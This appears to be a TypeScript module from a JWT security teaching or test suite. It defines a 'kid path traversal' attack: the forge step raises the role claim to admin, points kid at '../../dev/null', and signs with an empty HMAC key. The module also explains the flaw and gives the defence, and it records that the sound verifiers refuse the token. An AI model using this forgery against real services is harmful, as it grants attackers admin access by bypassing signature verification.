import { rfc } from '../../jwt/clause.ts';
import { withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWithText } from '../../service/tokens/sign.ts';
import type { Attack } from '../attack.ts';

export const kidPath: Attack = {
  id: 'kid-path',
  name: 'kid leaves its folder',
  group: 'header',
  setting: 'hs256',
  precondition: 'The verifier opens the file that kid names.',
  needs: ['a-token'],
  goal: 'u-9 signs with a file whose content everybody knows: an empty one.',
  forge: ({ honest }) => {
    const claimed = withClaims(honest, { role: 'admin' });
    const named = withHeader(claimed, { kid: '../../dev/null' });
    return Promise.resolve({
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        { say: 'Name, as the key, a file that is empty on every machine.', token: named },
        { say: 'Sign by HMAC with what is in it: nothing.', token: signWithText(named, '') },
      ],
    });
  },
  explanation: [
    'A folder with one file per key, and kid as the file’s name, is the simplest of key stores. Until kid contains two dots and a slash.',
    'The attacker cannot read the keys this way, but can choose which file is the key. Any file with known content will do: /dev/null is empty, style sheets and licences are published.',
    'The signature over it is right. The verifier has checked it with exactly the key it was told to use.',
  ],
  defence:
    'kid is a name to look up in a map, not a part of anything. What is not in the map is refused.',
  bcp: ['3.10'],
  clauses: [rfc(7515, '4.1.4')],
  cves: [],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'kid',
      because: 'It compares kid with the names of configured keys, and opens nothing.',
    },
    strict: {
      outcome: 'refuse',
      at: 'kid',
      because: 'It compares kid with the names of configured keys, and opens nothing.',
    },
  },
};
